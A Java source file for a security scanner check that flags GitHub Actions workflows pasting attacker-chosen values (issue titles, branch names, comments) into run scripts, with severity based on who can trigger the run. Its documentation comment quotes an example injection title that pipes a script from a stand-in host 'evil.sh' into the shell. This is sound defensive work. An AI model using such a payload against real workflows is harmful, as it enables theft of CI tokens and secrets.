package io.github.devopsassess.check.pipeline;

import io.github.devopsassess.facts.Facts;
import io.github.devopsassess.facts.pipeline.DispatchInput;
import io.github.devopsassess.facts.pipeline.Job;
import io.github.devopsassess.facts.pipeline.PipelineFacts;
import io.github.devopsassess.facts.pipeline.ScriptExpression;
import io.github.devopsassess.facts.pipeline.Step;
import io.github.devopsassess.facts.pipeline.Trigger;
import io.github.devopsassess.facts.pipeline.Workflow;
import io.github.devopsassess.model.Evidence;
import io.github.devopsassess.model.Finding;
import io.github.devopsassess.model.Judgement;
import io.github.devopsassess.model.Severity;
import io.github.devopsassess.model.Words;
import io.github.devopsassess.rubric.CheckSettings;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * {@code workflow-script-injection}: a GitHub Actions expression whose value someone else chooses (an issue title, a
 * pull request's branch name, a comment, a commit message) written straight into a {@code run:} script or an
 * {@code actions/github-script} script. GitHub pastes the value into the script before the shell reads it, so a title
 * such as {@code a"; curl evil.sh | sh; echo "} runs as a command with the job's token and secrets.
 *
 * <p>Severity follows who can choose the value: critical when a stranger can start the run with this repository's
 * rights (issues, comments, discussions, {@code pull_request_target}, {@code workflow_run}); high for other events
 * (a fork's pull request runs without secrets; a pushed commit message needs write access or a merged change);
 * medium for a free-text input of {@code workflow_dispatch}, which only people with write access set. Inputs of
 * {@code workflow_call} are set by the calling workflow, most often to constants, and are not judged. Values that only become {@code true}/{@code false} (comparisons,
 * {@code contains()}) are not injections; a value passed through {@code env:} and read as {@code "$VAR"} is not an
 * expression in the script and is never seen here.
 */
public final class WorkflowScriptInjectionCheck extends PipelineCheck {

    public static final String ID = "workflow-script-injection";

    /**
     * Attacker-controllable contexts (GitHub's security hardening guide and the Security Lab's list), each with the
     * events whose payload carries it. Matched on the expression with spaces removed, lower case.
     */
    private static final Map<Pattern, Set<String>> TAINTED = Map.ofEntries(
            Map.entry(Pattern.compile("github\\.event\\.issue\\.(title|body)\\b"),
                    Set.of("issues", "issue_comment")),
            Map.entry(Pattern.compile("github\\.event\\.issue\\)"), Set.of("issues", "issue_comment")),
            Map.entry(Pattern.compile("github\\.event\\.pull_request\\.(title|body|head\\.(ref|label"
                    + "|repo\\.default_branch))\\b"), Set.of("pull_request", "pull_request_target",
                            "pull_request_review", "pull_request_review_comment")),
            Map.entry(Pattern.compile("github\\.event\\.pull_request\\)"), Set.of("pull_request",
                    "pull_request_target", "pull_request_review", "pull_request_review_comment")),
            Map.entry(Pattern.compile("github\\.head_ref\\b"), Set.of("pull_request", "pull_request_target",
                    "pull_request_review", "pull_request_review_comment")),
            Map.entry(Pattern.compile("github\\.event\\.comment\\.body\\b|github\\.event\\.comment\\)"),
                    Set.of("issue_comment", "pull_request_review_comment", "commit_comment", "discussion_comment")),
            Map.entry(Pattern.compile("github\\.event\\.(review|review_comment)\\.body\\b|github\\.event\\.review\\)"),
                    Set.of("pull_request_review", "pull_request_review_comment")),
            Map.entry(Pattern.compile("github\\.event\\.discussion\\.(title|body)\\b|github\\.event\\.discussion\\)"),
                    Set.of("discussion", "discussion_comment")),
            Map.entry(Pattern.compile("github\\.event\\.pages(\\[[^]]*]|\\.\\*)?\\.page_name\\b"), Set.of("gollum")),
            Map.entry(Pattern.compile("github\\.event\\.(head_commit|commits(\\[[^]]*]|\\.\\*)?)\\.(message"
                    + "|(author|committer)\\.(name|email))\\b|github\\.event\\.(head_commit|commits)\\)"),
                    Set.of("push")),
            Map.entry(Pattern.compile("github\\.event\\.workflow_run\\.(head_branch|display_title"
                    + "|head_commit\\.(message|(author|committer)\\.(name|email))"
                    + "|pull_requests(\\[[^]]*]|\\.\\*)?\\.head\\.ref)\\b|github\\.event\\.workflow_run\\)"),
                    Set.of("workflow_run")),
            Map.entry(Pattern.compile("github\\.event\\)"), Set.of()));

    private static final Pattern INPUT = Pattern.compile("\\b(?:github\\.event\\.)?inputs\\.([\\w-]+)");
    /** Expressions whose value is only true or false, whatever the text they read. */
    private static final Pattern BOOLEAN = Pattern.compile("^(!|(contains|startswith|endswith)\\()|==|!=|<=|>=");

    @Override
    public String id() {
        return ID;
    }

    /** One expression judged dangerous, with its weight. */
    private record Hit(int line, String expression, String field, int rank, String why) {
    }

    @Override
    protected Judgement judge(PipelineFacts pipelines, Facts facts, CheckSettings settings) {
        // file where the expression is written -> line+expression -> hit (the worst rank when several workflows use it)
        Map<String, Map<String, Hit>> byFile = new TreeMap<>();
        Map<String, Set<String>> workflowsOf = new TreeMap<>();
        Set<String> judgedFiles = new LinkedHashSet<>();
        for (Workflow w : pipelines.workflows()) {
            if (!"github-actions".equals(w.system())) {
                continue;
            }
            for (Job j : w.jobs()) {
                for (Step s : j.steps()) {
                    for (ScriptExpression e : s.expressions()) {
                        judgedFiles.add(e.at().path());
                        Optional<Hit> hit = judge(w, e, e.at().path().equals(w.path()));
                        if (hit.isEmpty()) {
                            continue;
                        }
                        String key = String.format(Locale.ROOT, "%08d %s", e.at().line(), e.expression());
                        byFile.computeIfAbsent(e.at().path(), p -> new TreeMap<>()).merge(key, hit.get(),
                                (a, b) -> a.rank() >= b.rank() ? a : b);
                        workflowsOf.computeIfAbsent(e.at().path(), p -> new LinkedHashSet<>()).add(w.name());
                    }
                }
            }
        }
        if (judgedFiles.isEmpty()) {
            return Judgement.clean("no workflow writes an expression into a script");
        }
        List<Finding> findings = new ArrayList<>();
        for (Map.Entry<String, Map<String, Hit>> file : byFile.entrySet()) {
            List<Hit> hits = List.copyOf(file.getValue().values());
            Hit worst = hits.stream().max((a, b) -> Integer.compare(a.rank(), b.rank())).orElseThrow();
            List<Evidence> evidence = hits.stream().map(h -> Evidence.line(file.getKey(), h.line())
                    .withNote("${{ " + h.expression() + " }} in " + h.field() + ": " + h.why())).toList();
            Set<String> distinct = new LinkedHashSet<>(hits.stream().map(Hit::expression).toList());
            String message = "'" + String.join("', '", workflowsOf.get(file.getKey())) + "' "
                    + Words.noun(workflowsOf.get(file.getKey()).size(), "writes", "write") + " "
                    + Words.plural(distinct.size(), "value", "values") + " that others choose straight into "
                    + Words.noun(hits.size(), "a script", "scripts") + " (" + String.join(", ", distinct) + "): "
                    + consequence(worst.rank());
            findings.add(Finding.of(settings.id(), settings.def().area(), severity(settings, worst.rank()), message,
                    file.getKey(), evidence, settings.def().remediation()));
        }
        return Judgement.of(findings, judgedFiles.size(), findings.size() + " of "
                + Words.plural(judgedFiles.size(), "file", "files") + " with expressions in scripts "
                + Words.noun(findings.size(), "writes", "write") + " values that others choose into them");
    }

    private static String consequence(int rank) {
        return switch (rank) {
            case 2 -> "anyone who can open an issue, comment or pull request can run commands with this workflow's"
                    + " token and secrets.";
            case 1 -> "whoever names the branch, writes the title or the commit message can run commands in the job.";
            default -> "whoever starts the run can run commands in the job instead of the intended ones.";
        };
    }

    private static Severity severity(CheckSettings settings, int rank) {
        Severity s = settings.severity();
        for (int i = rank; i < 2; i++) {
            s = s.lower();
        }
        return s;
    }

    /**
     * Whether the expression lets someone else write code into the script: rank 2 for a stranger with this
     * repository's rights, 1 for other attacker-controllable contexts, 0 for free-text inputs.
     */
    static Optional<Hit> judge(Workflow w, ScriptExpression e, boolean inWorkflowFile) {
        String x = e.expression().replaceAll("\\s+", "").toLowerCase(Locale.ROOT);
        if (BOOLEAN.matcher(x).find()) {
            return Optional.empty();
        }
        boolean called = w.triggeredBy("workflow_call");
        int best = -1;
        String why = null;
        for (Map.Entry<Pattern, Set<String>> t : TAINTED.entrySet()) {
            if (!t.getKey().matcher(x).find()) {
                continue;
            }
            // the value exists only for the events that carry it; a reusable workflow gets its caller's event
            List<String> carrying = w.triggers().stream().map(Trigger::event)
                    .filter(ev -> t.getValue().isEmpty() || t.getValue().contains(ev)).toList();
            if (carrying.isEmpty() && !called) {
                continue;
            }
            Optional<String> outsider = carrying.stream().filter(Trigger::outsiderPrivileged).findFirst();
            int rank = outsider.isPresent() ? 2 : 1;
            if (rank > best) {
                best = rank;
                why = outsider.map(ev -> "set by whoever triggers " + ev).orElse("set by someone else ("
                        + (carrying.isEmpty() ? "the calling workflow's event" : String.join(", ", carrying)) + ")");
            }
        }
        if (best < 0 && inWorkflowFile) {
            Matcher m = INPUT.matcher(e.expression());
            while (m.find() && best < 0) {
                String name = m.group(1);
                for (Trigger t : w.triggers()) {
                    // workflow_call inputs are set by the calling workflow, usually to constants: not judged here
                    if (!"workflow_dispatch".equals(t.event())) {
                        continue;
                    }
                    for (DispatchInput in : t.inputs()) {
                        if (in.name().equals(name) && in.freeText()) {
                            best = 0;
                            why = "free-text workflow_dispatch input";
                        }
                    }
                }
            }
        }
        return best < 0 ? Optional.empty() : Optional.of(new Hit(e.at().line(), e.expression(), e.field(), best, why));
    }
}
